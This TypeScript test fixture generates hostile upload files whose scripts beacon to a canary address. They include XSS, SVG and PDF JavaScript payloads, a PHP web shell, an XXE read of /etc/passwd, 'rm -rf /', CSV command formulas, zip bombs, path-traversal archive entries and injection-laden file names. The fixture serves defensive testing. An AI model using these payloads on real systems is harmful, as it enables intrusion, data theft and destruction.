import { crc32, deflateSync } from "node:zlib";

/** A description, the file name and the content. */
export type HostileFile = readonly [what: string, name: string, content: Uint8Array<ArrayBuffer> | string];

/** What the files try to run. Each has a visible effect: a dialog, a mark on the window, a request to the canary. */
type Payload = {
  readonly canary: string;
  readonly script: string;
  readonly svg: string;
  readonly html: string;
  readonly pdf: string;
};

/** security.md D1. `canary` is an address that nothing else requests. */
export function hostileFiles(canary: string): readonly HostileFile[] {
  const payload = payloadOf(canary);
  return [...pictures(payload), ...marks(payload), ...documents(payload), ...names(payload)];
}

/** The page hidden in many of the files, for tests that the canary would notice it. */
export function hostilePage(canary: string): string {
  return payloadOf(canary).html;
}

function payloadOf(canary: string): Payload {
  const script = `<script>window.__ran=1;fetch('${canary}/script');fetch('/api/v1/profile').then(()=>alert(document.domain))</script>`;
  return {
    canary,
    script,
    svg: `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="${canary}/svg"/>${script}</svg>`,
    html: `<!doctype html><html><body><img src="${canary}/image">${script}</body></html>`,
    pdf: "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF",
  };
}

const EICAR = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR", "STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].join("-");

/**
 * A PDF that a reader really opens: its scripts run on opening, when its page is shown and when its field is touched.
 */
function activePage(canary: string): string {
  const js = `<</S/JavaScript/JS(app.alert\\(1\\);app.launchURL\\("${canary}/pdf"\\))>>`;
  const uri = `<</S/URI/URI(${canary}/uri)>>`;
  const parts = [
    `<</Type/Catalog/Pages 2 0 R/OpenAction ${js}/AA<</WC ${js}>>/AcroForm<</Fields[5 0 R]/NeedAppearances true>>/Names<</JavaScript<</Names[(a) ${js}]>>>>>>`,
    "<</Type/Pages/Kids[3 0 R]/Count 1>>",
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Annots[5 0 R 6 0 R]/AA<</O ${js}/C ${uri}>>/Resources<<>>>>`,
    "<</Length 25>>stream\n1 0 0 rg 20 20 99 99 re f\nendstream",
    `<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 300 200]/AA<</Fo ${js}/K ${js}>>>>`,
    `<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A ${uri}>>`,
  ];
  let body = "%PDF-1.7\n";
  const table = parts.map((part, index) => {
    const at = String(body.length).padStart(10, "0");
    body += `${index + 1} 0 obj${part}endobj\n`;
    return `${at} 00000 n \n`;
  });
  return `${body}xref\n0 7\n0000000000 65535 f \n${table.join("")}trailer<</Size 7/Root 1 0 R>>\nstartxref\n${body.length}\n%%EOF`;
}

const joined = (...parts: readonly (string | Uint8Array)[]): Uint8Array<ArrayBuffer> =>
  Uint8Array.from(Buffer.concat(parts.map((part) => (typeof part === "string" ? Buffer.from(part) : part))));

/** A PNG that declares this size, whatever it contains. */
function pngSaying(width: number, height: number): Uint8Array<ArrayBuffer> {
  const chunk = (type: string, data: Buffer): Buffer => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const sum = Buffer.alloc(4);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, sum]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return joined(
    Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a),
    chunk("IHDR", header),
    chunk("IDAT", deflateSync(Buffer.alloc(1_000))),
    chunk("IEND", Buffer.alloc(0)),
  );
}

/** A zip with one megabyte compressed to a kilobyte, under names chosen by the sender. */
function bomb(...names: readonly string[]): Uint8Array<ArrayBuffer> {
  const packed = deflateSync(Buffer.alloc(1_000_000));
  const local = Buffer.concat([Buffer.from("PK\u0003\u0004"), Buffer.alloc(26), packed]);
  const entries = names.map((name) => {
    const head = Buffer.alloc(46);
    head.write("PK\u0001\u0002");
    head.writeUInt32LE(1_000_000_000, 24);
    head.writeUInt16LE(name.length, 28);
    return Buffer.concat([head, Buffer.from(name)]);
  });
  const directory = Buffer.concat(entries);
  const end = Buffer.alloc(22);
  end.write("PK\u0005\u0006");
  end.writeUInt16LE(names.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(local.length, 16);
  return joined(local, directory, end);
}

/** Images of twenty by twenty pixels; `placed` has a GPS position and an HTML page in its metadata. */
const drawn = {
  jpeg: fromBase64([
    "/9j/2wBDAAYEBQYFBAYGBQYHBwYIChAKCgkJChQODwwQFxQYGBcUFhYaHSUfGhsjHBYWICwgIyYnKSopGR8tMC0oMCUoKSj/2wBD",
    "AQcHBwoIChMKChMoGhYaKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCj/wAARCAAUABQD",
    "ASIAAhEBAxEB/8QAFQABAQAAAAAAAAAAAAAAAAAAAAf/xAAUEAEAAAAAAAAAAAAAAAAAAAAA/8QAFgEBAQEAAAAAAAAAAAAAAAAA",
    "AAIF/8QAFBEBAAAAAAAAAAAAAAAAAAAAAP/aAAwDAQACEQMRAD8AjwDTQAAAAAA//9k=",
  ]),
  png: fromBase64([
    "iVBORw0KGgoAAAANSUhEUgAAABQAAAAUCAIAAAAC64paAAAACXBIWXMAAAPoAAAD6AG1e1JrAAAAIElEQVQ4jWMwNg4lGzGMag4d",
    "DbDQ0UQSOpoxQgeuMAAAMswkQNP9izkAAAAASUVORK5CYII=",
  ]),
  webp: fromBase64([
    "UklGRkAAAABXRUJQVlA4IDQAAAAQAwCdASoUABQAPm0ylkekIyIhKAgAgA2JZwC4MBbaUQAA/vUnX3Z2i0xu2m/f7gvAAAAA",
  ]),
  gif: fromBase64(["R0lGODlhFAAUAIAAAExpcTMzVSH5BAUAAAAALAAAAAAUABQAAAIRjI+py+0Po5y02ouz3rz7rxUAOw=="]),
  placed: fromBase64([
    "/9j/4QFCRXhpZgAASUkqAAgAAAAIABIBAwABAAAAAQAAABoBBQABAAAAbgAAABsBBQABAAAAdgAAACgBAwABAAAAAgAAABMCAwAB",
    "AAAAAQAAAJiCAgA4AAAAfgAAAGmHBAABAAAAtgAAACWIBAABAAAABAEAAAAAAAA4YwAA6AMAADhjAADoAwAAPCFkb2N0eXBlIGh0",
    "bWw+PHNjcmlwdD53aW5kb3cuX19yYW49MTthbGVydCgxKTwvc2NyaXB0PgAGAACQBwAEAAAAMDIxMAGRBwAEAAAAAQIDAACgBwAE",
    "AAAAMDEwMAGgAwABAAAA//8AAAKgBAABAAAAFAAAAAOgBAABAAAAFAAAAAAAAAACAAEAAgACAAAATgAAAAIABQADAAAAIgEAAAAA",
    "AAA0AAAAAQAAAB8AAAABAAAADAAAAAEAAAD/2wBDAAYEBQYFBAYGBQYHBwYIChAKCgkJChQODwwQFxQYGBcUFhYaHSUfGhsjHBYW",
    "ICwgIyYnKSopGR8tMC0oMCUoKSj/2wBDAQcHBwoIChMKChMoGhYaKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgo",
    "KCgoKCgoKCgoKCgoKCj/wAARCAAUABQDASIAAhEBAxEB/8QAFQABAQAAAAAAAAAAAAAAAAAAAAf/xAAUEAEAAAAAAAAAAAAAAAAA",
    "AAAA/8QAFgEBAQEAAAAAAAAAAAAAAAAAAAIF/8QAFBEBAAAAAAAAAAAAAAAAAAAAAP/aAAwDAQACEQMRAD8AjwDTQAAAAAA//9k=",
  ]),
};

function fromBase64(lines: readonly string[]): Uint8Array<ArrayBuffer> {
  return Uint8Array.from(Buffer.from(lines.join(""), "base64"));
}

function pictures({ script, html }: Payload): readonly HostileFile[] {
  const { jpeg, png, webp, gif, placed } = drawn;
  return [
    ["a JPEG with a page behind it", "a.jpg", joined(jpeg, html)],
    ["a JPEG with an archive behind it", "a.jpg", joined(jpeg, bomb("META-INF/MANIFEST.MF"))],
    ["a JPEG with a page in its notes and a place", "a.jpg", joined(placed)],
    ["a JPEG that is cut off", "a.jpg", joined(jpeg.subarray(0, jpeg.length / 2))],
    ["a PNG with a script behind it", "a.png", joined(png, script)],
    ["a PNG that is cut off", "a.png", joined(png.subarray(0, png.length / 2))],
    ["a PNG called a page", "a.html", joined(png)],
    ["a WebP with a page behind it", "a.webp", joined(webp, html)],
    ["a GIF that is an archive too", "a.gif", joined(gif, bomb("META-INF/MANIFEST.MF"))],
    ["a GIF called a JPEG", "a.jpg", joined(gif)],
    ["a PNG of 900 million pixels", "a.png", pngSaying(30_000, 30_000)],
    ["a PNG of more pixels than numbers have", "a.png", pngSaying(2_147_483_647, 2_147_483_647)],
    ["a PNG of no pixels", "a.png", pngSaying(0, 0)],
    ["the mark of a JPEG alone", "a.jpg", Uint8Array.of(0xff, 0xd8, 0xff, 0xe0)],
    ["a picture in a container that nothing here opens", "a.heic", joined("\0\0\0\u0018ftypheic", jpeg)],
  ];
}

function marks({ script, html, svg, canary }: Payload): readonly HostileFile[] {
  return [
    ["a drawing with a script", "a.svg", svg],
    ["a drawing called a picture", "a.png", svg],
    ["a drawing called text", "a.txt", svg],
    ["a drawing behind an XML mark", "a.svg", `<?xml version="1.0"?>${svg}`],
    [
      "a drawing that fetches an entity",
      "a.svg",
      `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg>&e;</svg>`,
    ],
    ["a page", "a.html", html],
    ["a page called a JPEG", "a.jpg", html],
    ["a page called text", "a.txt", html],
    ["a page called a table", "a.csv", html],
    ["a page called a PDF", "a.pdf", html],
    ["a page with two endings", "a.pdf.html", html],
    ["a page in another encoding", "a.txt", joined(Uint8Array.of(0xff, 0xfe), Buffer.from(html, "utf16le"))],
    ["a page in UTF-7", "a.txt", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"],
    ["an XHTML page", "a.xhtml", `<html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`],
    ["a script", "a.js", `fetch('${canary}/js');alert(1)`],
    ["a script called text", "a.txt", `fetch('${canary}/js');alert(1)`],
    ["a script called a table", "a.csv", `fetch('${canary}/js');alert(1)`],
    ["a stylesheet", "a.css", `@import '${canary}/css'`],
    ["a mail with a page", "a.mht", `MIME-Version: 1.0\nContent-Type: text/html\n\n${html}`],
    ["a folder's settings", ".htaccess", "AddType text/html .txt"],
    ["a server's script", "a.php", "<?php system($_GET['c']); ?>"],
    ["formulas", "a.csv", '=cmd|"/c calc"!A1,@SUM(1+1)\n'],
    ["a virus scanner's test", "eicar.com", EICAR],
    ["a virus scanner's test as text", "eicar.txt", EICAR],
  ];
}

function documents({ html, pdf, canary }: Payload): readonly HostileFile[] {
  return [
    ["a PDF with a script", "a.pdf", pdf],
    ["a PDF of a page with scripts, a form and links", "a.pdf", activePage(canary)],
    ["a PDF that is a page too", "a.html", `%PDF-1.7\n${html}\n%%EOF`],
    ["a page that is a PDF too", "a.pdf", `${html}%PDF-1.7\n%%EOF`],
    ["a PDF that is cut off", "a.pdf", "%PDF-1.7\n1 0 obj<<"],
    ["a PDF with an archive behind it", "a.pdf", joined(pdf, bomb("a.class"))],
    ["a zip", "a.zip", bomb("a.txt")],
    ["a zip that unpacks to a gigabyte called a letter", "a.docx", bomb("a.txt")],
    ["a letter that unpacks to a gigabyte", "a.docx", bomb("[Content_Types].xml", "word/document.xml")],
    ["a table that unpacks to a gigabyte", "a.xlsx", bomb("[Content_Types].xml", "xl/workbook.xml")],
    [
      "a letter with macros",
      "a.docm",
      bomb("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"),
    ],
    ["a zip whose parts leave their folder", "a.docx", bomb("../../etc/cron.d/x", "word/document.xml")],
    ["a program for Java", "a.jar", bomb("META-INF/MANIFEST.MF", "A.class")],
    [
      "a letter of the old kind",
      "a.doc",
      joined(Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1)),
    ],
    ["a program", "a.exe", joined("MZ\u0090\0\u0003\0")],
    ["a program called a PDF", "a.pdf", joined("MZ\u0090\0\u0003\0")],
    ["a program for Linux", "a.txt", joined("\u007fELF\u0002\u0001\u0001\0")],
    ["a shell's script", "a.sh", "#!/bin/sh\nrm -rf /"],
    ["a shortcut", "a.url", "[InternetShortcut]\nURL=javascript:alert(1)"],
    ["nothing", "a.pdf", ""],
    ["zeros", "a.pdf", new Uint8Array(1_000)],
    ["one byte too many", "a.pdf", new Uint8Array(25 * 1024 * 1024 + 1).fill(0x25)],
  ];
}

function names({ canary }: Payload): readonly HostileFile[] {
  return [
    "../../../../etc/passwd.pdf",
    "..\\..\\windows\\system32\\x.pdf",
    "a\r\nSet-Cookie: session=evil.pdf",
    'a"; filename="evil.html.pdf',
    `${"n".repeat(300)}.pdf`,
    "a\0.html.pdf",
    "invoice\u202efdp.exe.pdf",
    "<img src=x onerror=alert(1)>.pdf",
    "CON.pdf",
    "%2e%2e%2fx.pdf",
    "a.pdf\u200b",
  ].map((name) => [`the name ${JSON.stringify(name.slice(0, 40))}`, name, activePage(canary)] as const);
}
